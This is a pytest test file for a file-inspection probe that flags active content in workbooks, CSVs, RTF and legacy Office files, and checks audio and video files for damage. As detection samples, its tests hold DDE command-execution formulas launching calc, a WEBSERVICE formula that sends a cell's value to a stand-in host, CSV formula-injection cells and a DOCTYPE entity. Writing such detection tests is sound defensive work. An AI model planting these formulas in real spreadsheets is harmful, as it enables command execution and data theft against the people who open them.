"""Office documents, tables and recordings: what acts in them is found, what is cut off is told, what is whole passes."""

import io
import struct
import wave
import zipfile

import openpyxl
import pytest

RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook(**parts):
    """A workbook as openpyxl writes it, with these parts besides."""
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "工资"
    book.save(buffer)
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def kinds(data, name, fence, tmp_path):
    path = tmp_path / name
    path.write_bytes(data)
    report = fence.call("probe", path=str(path), name=name)
    return {fault["kind"] for fault in report["faults"]}, report


def sheet(formula):
    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ("SUM(A1:A9)", False),
        ("cmd|' /C calc'!A0", True),
        ("DDE(&quot;cmd&quot;;&quot;/C calc&quot;)", True),
        ("WEBSERVICE(&quot;http://x/&quot;&amp;A1)", True),
    ],
)
def test_a_formula_that_acts_is_found_and_one_that_adds_is_not(formula, found, fence, tmp_path):
    said, _ = kinds(workbook(**{"xl/worksheets/sheet2.xml": sheet(formula)}), "a.xlsx", fence, tmp_path)
    assert ("formula" in said) is found


@pytest.mark.parametrize(
    ("kind", "found"),
    [("hyperlink", "link"), ("attachedTemplate", "external-file"), ("oleObject", "external-file")],
)
def test_what_a_document_takes_from_outside_is_named(kind, found, fence, tmp_path):
    relation = (
        f'<Relationship Id="r2" Type="{OFFICE}/{kind}" Target="http://example.org/x" TargetMode="External"/>'
    )
    said, _ = kinds(
        workbook(**{"xl/worksheets/_rels/sheet1.xml.rels": RELATIONS.format(relation)}),
        "a.xlsx",
        fence,
        tmp_path,
    )
    assert found in said


def test_entities_in_a_part_of_a_document_are_refused(fence, tmp_path):
    said, _ = kinds(
        workbook(**{"xl/evil.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "a.xlsx", fence, tmp_path
    )
    assert "doctype" in said


def test_an_ordinary_workbook_is_whole(fence, tmp_path):
    said, report = kinds(workbook(), "a.xlsx", fence, tmp_path)
    assert said == set() and report["kind"] == "office"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("姓名,金额\n张三,-12.50\n李四,+3\n", False),
        ('姓名,金额\n=HYPERLINK("http://x"),1\n', True),
        ("姓名,金额\n张三,@SUM(A1)\n", True),
        ("姓名,金额\n张三,\"=cmd|' /C calc'!A0\"\n", True),
        ("邮箱\nzhang@example.org\n", False),
    ],
)
def test_a_cell_that_a_spreadsheet_would_compute_is_found(text, found, fence, tmp_path):
    said, _ = kinds(text.encode(), "a.csv", fence, tmp_path)
    assert ("formula" in said) is found


@pytest.mark.parametrize(("text", "found"), [("<a><b/></a>", False), ("<a><b></a>", True), ("<a>", True)])
def test_xml_that_is_none_is_told(text, found, fence, tmp_path):
    said, _ = kinds(f'<?xml version="1.0"?>{text}'.encode(), "a.xml", fence, tmp_path)
    assert ("bad-xml" in said) is found


def sound(seconds=1):
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as file:
        file.setparams((1, 2, 8000, 0, "NONE", ""))
        file.writeframes(b"\0\1" * 8000 * seconds)
    return buffer.getvalue()


def test_a_recording_is_told_with_length_and_codec(fence, tmp_path):
    said, report = kinds(sound(2), "a.wav", fence, tmp_path)
    assert said == set() and report["details"]["seconds"] == 2 and "PCM" in report["details"]["codec"]


def test_a_recording_that_was_cut_off_is_told(fence, tmp_path):
    said, _ = kinds(sound(2)[:9000], "a.wav", fence, tmp_path)
    assert "damaged" in said


def box(name, content=b""):
    return struct.pack(">I4s", len(content) + 8, name) + content


def film(seconds=3):
    header = struct.pack(">IIIII", 0, 0, 0, 1000, seconds * 1000) + b"\0" * 80
    track = box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", box(b"stsd", struct.pack(">II", 0, 1) + box(b"avc1", b"\0" * 70))))))  # fmt: skip
    return (
        box(b"ftyp", b"isom\0\0\0\1isommp42")
        + box(b"moov", box(b"mvhd", header) + track)
        + box(b"mdat", b"\0" * 5000)
    )


def test_a_film_is_told_with_length_and_codec(fence, tmp_path):
    said, report = kinds(film(), "a.mp4", fence, tmp_path)
    assert said == set() and (report["details"]["seconds"], report["details"]["codec"]) == (3.0, "avc1")


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (lambda data: data[:-2000], "damaged"),
        (lambda data: data[:24], "unreadable"),
        (lambda data: data[:28] + b"\0\0\0\3" + data[32:], "unreadable"),
    ],
)
def test_a_film_that_is_cut_or_confused_is_told(change, found, fence, tmp_path):
    said, _ = kinds(change(film()), "a.mp4", fence, tmp_path)
    assert found in said


@pytest.mark.parametrize("name", ["a.doc", "a.xls"])
def test_an_old_document_that_is_none_inside_is_told(name, fence, tmp_path):
    said, _ = kinds(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, name, fence, tmp_path)
    assert "unreadable" in said


def riff(*chunks):
    body = b"".join(
        name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WAVE" + body


def form(codec, bits=16, rate=8000):
    return struct.pack("<HHIIHH", codec, 1, rate, rate * bits // 8, bits // 8, bits)


@pytest.mark.parametrize(
    ("codec", "said"), [(1, "PCM"), (3, "float"), (0xFFFE, "extensible"), (0x55, "MP3"), (0x1234, "0x1234")]
)
def test_a_recording_of_any_codec_is_whole(codec, said, fence, tmp_path):
    data = riff((b"fmt ", form(codec) + b"\0" * 24), (b"LIST", b"odd"), (b"data", bytes(16_000)))
    faults, report = kinds(data, "a.wav", fence, tmp_path)
    assert faults == set() and report["details"]["seconds"] == 1.0 and said in report["details"]["codec"]


@pytest.mark.parametrize(
    "data",
    [
        riff((b"data", bytes(100))),
        riff((b"fmt ", form(1))),
        riff((b"fmt ", bytes(16)), (b"data", bytes(100))),
        riff((b"fmt ", form(1)[:9]), (b"data", bytes(100))),
    ],
    ids=["no format", "no sound", "empty format", "half a format"],
)
def test_a_recording_without_what_it_takes_to_play_it_is_told(data, fence, tmp_path):
    faults, _ = kinds(data, "a.wav", fence, tmp_path)
    assert "unreadable" in faults


def test_the_other_end_of_a_dde_formula_and_a_macro_sheet_are_found(fence, tmp_path):
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    said, _ = kinds(workbook(**{"xl/externalLinks/externalLink1.xml": link}), "a.xlsx", fence, tmp_path)
    assert said == {"formula"}
    said, _ = kinds(workbook(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "a.xlsx", fence, tmp_path)
    assert said == {"macro"}


def test_a_workbook_that_may_carry_macros_is_opened_like_any_other(fence, tmp_path):
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    book.save(buffer)
    macros = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(macros, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            target.writestr(entry, data)
        target.writestr("xl/vbaProject.bin", b"x")
    said, report = kinds(macros.getvalue(), "a.xlsm", fence, tmp_path)
    assert report["kind"] == "office" and "macro" in said


@pytest.mark.parametrize(("sort", "found"), [(0, False), (1, True)])
def test_a_macro_sheet_of_an_old_workbook_is_found(sort, found):
    from archive.inspection.probes import ole
    from archive.inspection.probes.report import Report

    sheet = struct.pack("<IBB", 0, 2, sort) + b"\3\0abc"
    report = Report()
    ole._judge_workbook(
        report, struct.pack("<HH", 0x809, 4) + bytes(4) + struct.pack("<HH", 0x85, len(sheet)) + sheet
    )
    assert [fault["kind"] for fault in report.faults] == (["macro"] if found else [])


def test_an_object_in_slides_and_in_rich_text_is_found(fence, tmp_path):
    from archive.inspection.probes import ole

    outer = struct.pack("<HHI", 0, 1000, 4) + bytes(4) + struct.pack("<HHI", 0, 0x1011, 2) + bytes(2)
    assert ole._slide_records(outer) == {1000, 0x1011} and ole._slide_records(outer[:13]) == {1000}
    said, _ = kinds(rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105}}\pgnstart1}", "a.rtf", fence, tmp_path)
    assert "embedded-object" in said


@pytest.mark.parametrize("name", ["a.aiff", "a.aif"])
def test_a_sound_that_its_catalogue_gives_no_media_type_is_a_sound(name, fence, tmp_path):
    common = struct.pack(">hIh", 1, 8000, 16) + b"\x40\x0b\xfa" + bytes(7)
    body = b"AIFF" + part(b"COMM", common) + part(b"SSND", bytes(8) + bytes(16_000))
    said, report = kinds(b"FORM" + struct.pack(">I", len(body)) + body, name, fence, tmp_path)
    assert said == set() and report["kind"] == "media" and report["details"]["seconds"] == 1.0


def part(name, content):
    return name + struct.pack(">I", len(content)) + content
